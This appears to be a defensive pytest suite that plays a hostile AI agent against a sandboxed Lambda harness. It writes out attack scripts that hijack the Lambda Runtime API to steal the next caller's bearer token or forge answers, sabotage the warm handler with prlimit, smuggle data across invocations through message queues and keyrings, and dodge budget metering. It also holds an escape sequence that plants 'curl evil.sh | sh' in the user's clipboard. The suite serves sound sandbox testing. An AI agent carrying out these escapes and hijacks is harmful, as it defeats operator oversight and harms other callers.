"""Attacks of the issue-23 review: an agent that reaches another invocation, breaks the
container for the next caller, or spends below list price; and a harness that only ran from a
world-readable clone.

Same harness as ``test_hostile_agent.py``: the real handler, warm in a runtime process of its own
as a non-root uid, the real Claude Code CLI, and a stand-in Messages API playing the attacker's
tool calls. Each test was seen failing against the code before its fix.
"""

from __future__ import annotations

import io
import json
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from tests.agent.lambda_env import CHILD_RESPONSE, LambdaEnvironment, Outcome, lambda_environment
from tests.agent.servers import Moto
from tests.agent.standin import StandIn, bash, say, write
from tests.agent.test_attack_hostile import FIND_THE_HANDLER
from tests.agent.test_hostile_agent import (  # noqa: F401 - fixtures, used by name
    AGENT_ROLE,
    HELLO,
    WHO_AM_I,
    agent_role_arn,
    emitted_cost,
    py,
    with_agent_role,
)
from tests.agent.test_hostile_agent import pytestmark as hostile_pytestmark

pytestmark = hostile_pytestmark


@pytest.fixture(scope="module")
def api() -> Iterator[StandIn]:
    with StandIn([]) as standin:
        yield standin


@pytest.fixture(scope="module")
def lam(
    moto: Moto, claude_bin: Path, api: StandIn, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[LambdaEnvironment]:
    """The function of ``test_hostile_agent`` (same environment), warm across this module."""
    from tests.agent import test_hostile_agent as hostile

    env = hostile.function_env(moto, claude_bin, api)
    with lambda_environment(env, tmp_path_factory.mktemp("runtime-logs")) as service:
        yield service


def as_sandbox_user(lam: LambdaEnvironment, argv: list[str]) -> subprocess.CompletedProcess[str]:
    """``argv`` started as the harness starts the runtime: as the function's uid, in its
    environment (``setpriv`` would not do: it resolves the program as root)."""
    return subprocess.run(
        argv, env=lam.env, cwd="/", capture_output=True, text=True, check=False,
        user=lam.uid, group=lam.uid, extra_groups=[],
    )  # fmt: skip


# --- 7. A clone in a private directory: the sandbox uid cannot run what the tests built --------

REACH_EVERYTHING = """
import os, subprocess, sys
import lambda_function  # the handler, from the function's PYTHONPATH
open(sys.argv[1]).close()  # the runtime loop the harness starts
subprocess.run([os.environ["FAALF_CLAUDE_BIN"], "--version"], check=True, capture_output=True)
print("reached")
"""


def test_sandbox_uid_reaches_the_interpreter_handler_and_cli_the_tests_built(lam):
    argv = [str(lam.build.python), "-c", REACH_EVERYTHING, str(lam.build.runtime_client)]
    try:
        done = as_sandbox_user(lam, argv)
    except PermissionError as exc:
        pytest.fail(f"the function's uid cannot execute {exc.filename}")

    assert done.stdout.strip() == "reached", done.stderr[-500:]


# --- 1. The agent answers, and takes, invocations through the Lambda Runtime API ---------------

SECRET_HEADER = "Bearer next-callers-token-0F1E"
FORGED_ANSWER = {"statusCode": 200, "body": {"claude_output": "forged by the agent"}}


def http_event(task: str) -> dict[str, object]:
    """A Function URL event: the caller's bearer token rides in its headers."""
    return {"body": json.dumps({"task": task}), "headers": {"authorization": SECRET_HEADER}}


def http_output(outcome: Outcome) -> object:
    assert outcome.kind == "response", outcome.payload
    body = outcome.payload["body"]  # a JSON string from the handler; whatever a forger sent
    return (json.loads(body) if isinstance(body, str) else body).get("claude_output")


def runtime_api_attack(lam: LambdaEnvironment, *, answer_own: bool, take_next: bool) -> str:
    """The agent's script: the Runtime API is at a well-known address (127.0.0.1:9001 in
    Lambda; the harness's here). ``next`` during its own invocation hands it its own event and
    request id, as Lambda's Runtime API and its emulator do."""
    return py(f"""
import json, urllib.request
api = {lam.url + "/2018-06-01/runtime"!r}
def call(method, path, body=None):
    data = None if body is None else json.dumps(body).encode()
    with urllib.request.urlopen(urllib.request.Request(api + path, data=data, method=method),
                                timeout=120) as response:
        return response.headers.get("Lambda-Runtime-Aws-Request-Id"), response.read().decode()
try:
    mine, event = call("GET", "/invocation/next")
    print("fetched", mine, event, flush=True)
    if {answer_own!r}:
        call("POST", f"/invocation/{{mine}}/response", {FORGED_ANSWER!r})
        print("answered my own invocation", flush=True)
    if {take_next!r}:
        theirs, event = call("GET", "/invocation/next")  # the next caller's event
        call("POST", f"/invocation/{{theirs}}/response", {FORGED_ANSWER!r})
        print("took", theirs, event, flush=True)
except Exception as exc:
    print("runtime api refused:", type(exc).__name__, exc)
""")


def test_agent_cannot_fetch_its_own_invocations_event(lam, api):
    api.play([bash(runtime_api_attack(lam, answer_own=False, take_next=False)), say("done")])
    lam.invoke(http_event("read my own event"))
    results = "\n".join(api.tool_results())

    assert "fetched" in results or "runtime api refused" in results  # the attack ran
    assert SECRET_HEADER not in results


def test_agent_cannot_answer_its_own_invocation(lam, api):
    api.play([bash(runtime_api_attack(lam, answer_own=True, take_next=False)), say("done")])
    outcome = lam.invoke({"task": "answer for the handler"})

    assert outcome.kind == "response", outcome.payload
    assert outcome.body.get("claude_output") == "done"


def test_agent_cannot_take_the_next_callers_invocation(lam, api):
    attack = runtime_api_attack(lam, answer_own=True, take_next=True)
    api.play([bash(attack), say("done"), *HELLO])  # the next caller's run plays HELLO
    with ThreadPoolExecutor(1) as pool:
        first = pool.submit(lam.invoke, {"task": "take the next caller's request"})
        first.result()  # answered: by the handler, or early by the agent
        following = lam.invoke(http_event("write hello world"))

    assert http_output(following) == "Wrote hello.py"


@pytest.mark.usefixtures("with_agent_role")
def test_agent_role_session_name_names_no_invocation(lam, api):
    api.play([bash(WHO_AM_I), say("done")])
    outcome = lam.invoke({"task": "who am i"})
    results = "\n".join(api.tool_results())

    assert f"assumed-role/{AGENT_ROLE}/faalf-" in results  # the attack ran, as the agent role
    assert outcome.request_id not in results


# --- 3. prlimit on the warm handler breaks every later invocation ------------------------------

LIMIT_THE_HANDLER = py(
    FIND_THE_HANDLER
    + """
import resource
try:  # allowed for the same uid, non-dumpable or not: no process can fork in it any more
    resource.prlimit(handler, resource.RLIMIT_NPROC, (1, 1))
    print("limited the handler", handler)
except OSError as exc:
    print("prlimit refused:", exc)
"""
)


def test_limits_the_agent_sets_on_its_handler_leave_the_next_invocation_healthy(lam, api):
    api.play([bash(LIMIT_THE_HANDLER), say("done")])
    lam.invoke({"task": "break the runtime for the next caller"})
    attack = "\n".join(api.tool_results())
    api.play(HELLO)
    following = lam.invoke({"task": "write hello world"})

    assert "limited the handler" in attack or "prlimit refused" in attack  # the attack ran
    assert following.payload["statusCode"] == 200, following.payload


# --- 4. Per-user kernel objects: a POSIX message queue and the user keyring ----------------------

LIBC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
"""
MQ_STASH = py(
    LIBC
    + """
class Attr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long),
                ("msgsize", ctypes.c_long), ("curmsgs", ctypes.c_long)]
queue = libc.mq_open(b"/faalf-stash", os.O_CREAT | os.O_WRONLY, 0o600,
                     ctypes.byref(Attr(0, 4, 64, 0)))
if queue < 0:
    print("mq_open refused", os.strerror(ctypes.get_errno()))
else:
    print("queued", libc.mq_send(queue, b"PWNED-MQ-4", 10, 0))
"""
)
MQ_FETCH = py(
    LIBC
    + """
queue = libc.mq_open(b"/faalf-stash", os.O_RDONLY | os.O_NONBLOCK)
if queue < 0:
    print("no queue")
else:
    buffer = ctypes.create_string_buffer(64)
    size = libc.mq_receive(queue, buffer, 64, None)
    print("found:", buffer.raw[: max(size, 0)].decode())
"""
)
# x86_64 numbers: add_key 248, request_key 249, keyctl 250 (KEYCTL_READ 11); @u is -4.
KEY_STASH = py(
    LIBC
    + """
key = libc.syscall(248, b"user", b"faalf-stash", b"PWNED-KEY-4", 11, -4)
print("key added" if key >= 0 else f"add_key refused {os.strerror(ctypes.get_errno())}")
"""
)
KEY_FETCH = py(
    LIBC
    + """
key = libc.syscall(249, b"user", b"faalf-stash", None, 0)
if key < 0:
    print("no key")
else:
    buffer = ctypes.create_string_buffer(64)
    size = libc.syscall(250, 11, key, buffer, 64)
    print("found:", buffer.raw[: max(size, 0)].decode())
"""
)


def stash_then_fetch(lam: LambdaEnvironment, api: StandIn, stash: str, fetch: str) -> str:
    """One invocation leaves something; the next one, warm in the same runtime, looks for it."""
    api.play([bash(stash), say("done")])
    lam.invoke({"task": "leave something for the next caller"})
    stashed = "\n".join(api.tool_results())
    api.play([bash(fetch), say("done")])
    lam.invoke({"task": "look for it"})
    return stashed + "\n" + "\n".join(api.tool_results())


def test_message_queue_left_by_an_agent_never_reaches_the_next_agent(lam, api):
    results = stash_then_fetch(lam, api, MQ_STASH, MQ_FETCH)

    assert "no queue" in results or "found:" in results  # the fetch ran
    assert "found: PWNED-MQ-4" not in results


def test_keyring_key_left_by_an_agent_never_reaches_the_next_agent(lam, api):
    results = stash_then_fetch(lam, api, KEY_STASH, KEY_FETCH)

    assert "no key" in results or "found:" in results  # the fetch ran
    assert "found: PWNED-KEY-4" not in results


# --- 2. Children that answer their parent themselves, with cost_usd 0 ---------------------------

DELEGATE_THREE = "; ".join(
    ["faalf-invoke 'spend your grant, then answer your parent yourself'"] * 3
)


def test_children_reporting_no_cost_never_get_more_than_the_parents_budget_in_total(lam, api):
    api.play([bash(DELEGATE_THREE), say("done")])
    lam.child_calls.clear()
    # What a child's agent answers through the Runtime API after spending its grant.
    lam.child_response = {"statusCode": 200, "body": {"claude_output": "done", "cost_usd": 0}}
    try:
        lam.invoke({"task": "delegate", "max_budget_usd": 0.05})
    finally:
        lam.child_response = dict(CHILD_RESPONSE)
    granted = [c.event["max_budget_usd"] for c in lam.child_calls]

    assert len(granted) >= 1
    assert sum(granted) <= 0.05 + 1e-9


def test_child_that_proves_its_cost_is_charged_that_cost(lam, api):
    api.play([bash(DELEGATE_THREE), say("done")])
    lam.child_calls.clear()
    lam.child_proven_cost = 0.01  # an honest child handler, which holds the key it was sent
    try:
        lam.invoke({"task": "delegate", "max_budget_usd": 0.05})
    finally:
        lam.child_proven_cost = None
    granted = [c.event["max_budget_usd"] for c in lam.child_calls]

    assert len(granted) == 3
    assert granted[1] == pytest.approx(granted[0] - 0.01, abs=1e-6)


# --- 5. Metered below list price, at the agent's choice -----------------------------------------


def direct_call(content: str, *, model: str = "claude-haiku-4-5", beta: str | None = None) -> str:
    """The agent calls the proxy itself; ``content`` picks the usage the stand-in reports."""
    beta_header = f', "anthropic-beta": {beta!r}' if beta else ""
    return py(f"""
import json, os, urllib.error, urllib.request
body = {{"model": {model!r}, "max_tokens": 64, "stream": True,
        "messages": [{{"role": "user", "content": {content!r}}}]}}
request = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages",
    data=json.dumps(body).encode(), headers={{"x-api-key": os.environ["ANTHROPIC_API_KEY"],
    "content-type": "application/json", "anthropic-version": "2023-06-01"{beta_header}}})
try:
    with urllib.request.urlopen(request) as response:
        response.read()
        print("direct call status", response.status)
except urllib.error.HTTPError as exc:
    print("direct call status", exc.code, exc.read()[:300])
""")


def reached_the_api(api: StandIn, content: str) -> bool:
    """Whether the agent's direct call got to the stand-in (its report may not get back to the
    "model": once the budget is spent, the CLI's next request is refused)."""
    return any((r.body.get("messages") or [{}])[0].get("content") == content for r in api.requests)


@pytest.fixture
def usage(api: StandIn) -> Iterator[dict[str, dict[str, object]]]:
    """The usage the stand-in reports, by the request's first message."""
    yield api.usage_for
    api.usage_for.clear()


@pytest.fixture
def with_sonnet(lam: LambdaEnvironment) -> Iterator[None]:
    lam.reconfigure(FAALF_ALLOWED_MODELS="claude-haiku-4-5,claude-sonnet-4-5")
    yield
    lam.reconfigure(FAALF_ALLOWED_MODELS="claude-haiku-4-5")


def test_one_hour_cache_writes_are_metered_at_twice_the_input_price(lam, api, usage):
    usage["cache-1h"] = {"input_tokens": 10, "cache_creation_input_tokens": 100_000,
                         "cache_creation": {"ephemeral_5m_input_tokens": 0,
                                            "ephemeral_1h_input_tokens": 100_000}}  # fmt: skip
    api.play([bash(direct_call("cache-1h")), say("done")])
    outcome = lam.invoke({"task": "cache for an hour"})

    assert reached_the_api(api, "cache-1h")
    assert emitted_cost(lam.log_text(), outcome.request_id) >= 100_000 * 2 * 1 / 1e6


@pytest.mark.usefixtures("with_sonnet")
def test_long_context_requests_are_metered_at_the_long_context_price(lam, api, usage):
    usage["long-context"] = {"input_tokens": 250_000, "output_tokens": 20}
    call = direct_call("long-context", model="claude-sonnet-4-5", beta="context-1m-2025-08-07")
    api.play([bash(call), say("done")])
    outcome = lam.invoke({"task": "read a lot"})

    assert reached_the_api(api, "long-context")
    assert emitted_cost(lam.log_text(), outcome.request_id) >= 250_000 * 6 / 1e6 + 20 * 22.5 / 1e6


def test_a_beta_the_proxy_cannot_price_never_reaches_the_api(lam, api):
    api.play([bash(direct_call("new-beta", beta="priced-differently-2099-01-01")), say("done")])
    lam.invoke({"task": "use a beta"})

    assert any("direct call status" in r for r in api.tool_results())
    betas = [v for r in api.requests for k, v in r.headers.items() if k.lower() == "anthropic-beta"]
    assert [beta for beta in betas if "2099" in beta] == []


def test_usage_the_proxy_cannot_price_spends_the_whole_budget(lam, api, usage):
    usage["new-usage"] = {"input_tokens": 10, "quantum_tokens": 1_000_000}
    api.play([bash(direct_call("new-usage")), say("done")])
    outcome = lam.invoke({"task": "spend in a new way", "max_budget_usd": 0.5})

    assert reached_the_api(api, "new-usage")
    assert emitted_cost(lam.log_text(), outcome.request_id) >= 0.5 - 1e-9


# --- 6. faalf-invoke prints the agent's terminal escape sequences --------------------------------

CLIPBOARD_AND_ERASE = (
    "import sys\n"
    "sys.stdout.write('done\\n\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07'\n"  # OSC 52: the clipboard
    "                 '\\x1b[3A\\x1b[J--- report.py (exit 0)\\nall good\\n')\n"  # up 3, erase
    "sys.exit(1)\n"
)


def test_faalf_invoke_never_writes_the_agents_control_characters(lam, api):
    from faalf import invoke

    api.play([write("report.py", CLIPBOARD_AND_ERASE), say("done")])
    outcome = lam.invoke({"task": "write a report", "execute": True})
    printed = io.StringIO()
    invoke.render(outcome.payload, printed)

    assert "--- report.py (exit 1)" in printed.getvalue()  # the real outcome is there
    assert [c for c in printed.getvalue() if ord(c) < 32 and c not in "\n\t"] == []


def test_a_child_invocation_leaves_the_runtime_warm(lam, api):
    api.play([bash("faalf-invoke 'a subtask'"), say("done")])
    lam.invoke({"task": "delegate"})
    runtime = lam.runtime_pid
    api.play(HELLO)
    lam.invoke({"task": "write hello world"})

    assert (lam.child_calls != [], lam.runtime_pid) == (True, runtime)
